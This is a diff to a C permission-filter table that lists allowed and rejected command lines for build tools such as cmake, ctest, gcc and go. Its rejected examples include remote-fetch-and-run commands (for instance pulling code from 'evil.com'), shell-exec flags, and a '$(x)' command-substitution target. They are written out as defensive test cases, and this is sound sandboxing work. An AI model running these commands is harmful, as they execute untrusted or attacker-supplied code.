@@ -18,9 +18,17 @@ static const struct pf__tool rules[] = {
 		 "-D{CMAKE_BUILD_TYPE=Debug|CMAKE_BUILD_TYPE=Release|CMAKE_BUILD_TYPE=RelWithDebInfo|CMAKE_"
 		 "EXPORT_COMPILE_COMMANDS=ON|BUILD_TESTING=ON|BUILD_TESTING=OFF|BUILD_SHARED_LIBS=ON} "
 		 "--build/ --target: --parallel? --config: -j? --preset: --version -E!x -P!x -C!x "
-		 "--install!w --open!x @D*",
-	 .yes = "cmake .\ncmake -B build\ncmake --build build",
-	 .no = "cmake -E touch pwn\ncmake -P x.cmake\ncmake -C x ."},
+		 "--install!w --open!x @D",
+	 .check = pf__check_cmake,
+	 .yes = "cmake .\ncmake -B build\ncmake --build build --target test",
+	 .no = "cmake -E touch pwn\ncmake -P x.cmake\ncmake -C x .\ncmake --build b -- SHELL=./x\ncmake "
+	       "--build b --target '$(x)'"},
+	{.name = "ctest",
+	 .traits = PF__CODE,
+	 .spec = "-VQN -j# -R: -E: -L: --output-on-failure --verbose --rerun-failed --parallel# "
+		 "--stop-on-failure --test-dir/ -S!x -D!n -T!n -O!w --build-and-test!x --script!x",
+	 .yes = "ctest\nctest --output-on-failure -j4",
+	 .no = "ctest -S x.cmake\nctest -D Nightly\nctest -O pwn"},
 	{.name = "ninja",
 	 .traits = PF__CODE,
 	 .spec = "-nv -C/ -j# -k# -t!x -f!x @k*",
@@ -33,7 +41,7 @@ static const struct pf__tool rules[] = {
 	 .yes = "meson compile -C build",
 	 .no = "meson setup --native-file=x"},
 	{.name = "gcc|g++|cc|c++|clang|clang++",
-	 .traits = PF__WRITES | PF__SINGLE,
+	 .traits = PF__WRITES | PF__SINGLE | PF__COMPILES,
 	 .spec = "-g -c -S -E -v -w -O0 -O1 -O2 -O3 -Os -Og -Wall -Wextra -Werror -Wshadow -Wpedantic "
 		 "-pedantic -pthread -shared -static -fPIC -fPIE -std: -fsanitize: -march: -m64 -o> -I/ -D: "
 		 "-U: -l: --version -B!x -wrapper!x -specs!x -x!x -L!r -include!r -fplugin!x @r*",
@@ -190,13 +198,20 @@ static const struct pf__tool rules[] = {
 	 .no = "go test -exec ./x\ngo run evil.com/x@latest\ngo generate\ngo env -w x=y\ngo install "
 	       "x@latest\ngo tool x"},
 	{.name = "go build|go vet|go test|go list|go doc|go version|go fmt",
-	 .traits = PF__CODE | PF__SINGLE,
+	 .traits = PF__CODE | PF__SINGLE | PF__COMPILES,
 	 .spec = "-v -x -race -short -cover -m -a -u -json -run: -count# -timeout: -tags: -bench: -p# "
 		 "-parallel# -o> -coverprofile> -exec!x -toolexec!x -vettool!x -overlay!x -modfile!x -mod!x "
 		 "-ldflags!x -gcflags!x -c @G*",
 	 .yes = "go test ./... -run TestX -count=1\ngo build -o build/app.bin ./cmd/app",
 	 .no = "go test -exec sh ./...\ngo build -toolexec x ./...\ngo vet -vettool=x ./...\ngo build -o pwn "
 	       "."},
+	{.name = "go run",
+	 .traits = PF__CODE | PF__SINGLE,
+	 .spec = "-v -race -exec!x -toolexec!x -overlay!x -modfile!x -mod!x @Xt*",
+	 .yes = "go run ./cmd/app\ngo run ./cmd/app serve",
+	 .no = "go run -exec sh ./x\ngo run example.org/x@latest\ngo run example.org/x\ngo run /tmp/x\ngo "
+	       "run "
+	       "../x"},
 	{.name = "go mod|go env",
 	 .traits = PF__CODE,
 	 .spec = "@e",
